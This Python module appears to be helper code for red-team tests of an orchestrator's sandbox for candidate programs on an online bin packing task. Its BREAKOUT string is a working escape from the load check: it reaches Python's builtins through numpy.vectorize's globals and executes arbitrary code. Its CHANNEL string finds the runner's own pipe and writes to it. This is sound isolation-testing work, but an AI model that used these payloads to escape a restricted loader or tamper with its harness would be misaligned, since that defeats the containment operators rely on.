"""Programs that mean harm, and how they get around what is no boundary."""

from __future__ import annotations

import secrets
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

from orchestrator.domain.candidates import FileTree
from orchestrator.domain.policies import Purpose
from orchestrator.evaluation.tasks import Task

RUN = f"redteam-{secrets.token_hex(6)}"
"""Of every container here; of its own, so that other tests on the same engine do not count."""
_ATTACKS = Path(__file__).parent / "attacks"


def attack(name: str) -> str:
    """Source of a script of `attacks/`."""
    return (_ATTACKS / f"{name}.py.txt").read_text(encoding="utf-8")


def survey_script(name: str, **parameters: object) -> str:
    """A script of `attacks/` that reports what it found, with its parameters, which are set before it runs."""
    settings = "".join(f"{key} = {value!r}\n" for key, value in parameters.items())
    return "\n".join([attack("common"), settings, attack(name)])


BREAKOUT = """
import numpy
Any = type("Any", (type,), {"__instancecheck__": lambda cls, value: True})
def attribute(value, name):
    Form = Any("Form", (), {"__match_args__": (name,)})
    match value:
        case Form(found):
            return found
builtins = attribute(attribute(numpy.vectorize, "__init__"), "__globals__")["__builtins__"]
space = {"__builtins__": builtins, "__name__": "hostile"}
builtins["exec"](SOURCE, space)
def priority(item, bins):
    return space["priority"](item, bins)
"""
"""Gets around the load check, which is a rule of the game: from here on the container is all there is."""

HONEST = """
def priority(item, bins):
    return item - bins.astype("float64")
"""
"""Best Fit, for what is hostile elsewhere."""

CHANNEL = """
import fcntl, os, stat, struct
def channel(want=os.O_WRONLY):
    for fd in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == want:
                return fd
        except OSError:
            pass
def put(data):
    fd = channel()
    while data:
        data = data[os.write(fd, data):]
def frame(head, body=b""):
    put(struct.pack(">II", len(head), len(body)) + head + body)
"""
"""Finds the runner's own descriptor of the channel and writes to it."""


def hostile(code: str) -> FileTree:
    """A candidate that runs `code` when it is loaded, with everything that Python has; Best Fit unless it says else."""
    return FileTree({"program.py": f"SOURCE = {HONEST + code!r}\n{BREAKOUT}".encode()})


def lowered(task: Task, purpose: Purpose, limits: Mapping[str, float]) -> Task:
    """The same task asking for less."""
    asked = {**task.spec.limits, purpose: {**task.spec.limits.get(purpose, {}), **limits}}
    return replace(task, spec=task.spec.model_copy(update={"limits": asked}))


def with_sequences(task: Task, count: int) -> Task:
    """Online bin packing on so many sequences, each of which meets a copy of the program."""
    code = task.evaluator["evaluate.py"]
    changed = code.replace(b"SEQUENCES = 100\n", f"SEQUENCES = {count}\n".encode())
    if code.count(b"SEQUENCES = 100\n") != 1:
        msg = "evaluate.py of online_bin_packing has no line 'SEQUENCES = 100'; change it here, too"
        raise ValueError(msg)
    return replace(task, evaluator={**task.evaluator, "evaluate.py": changed})
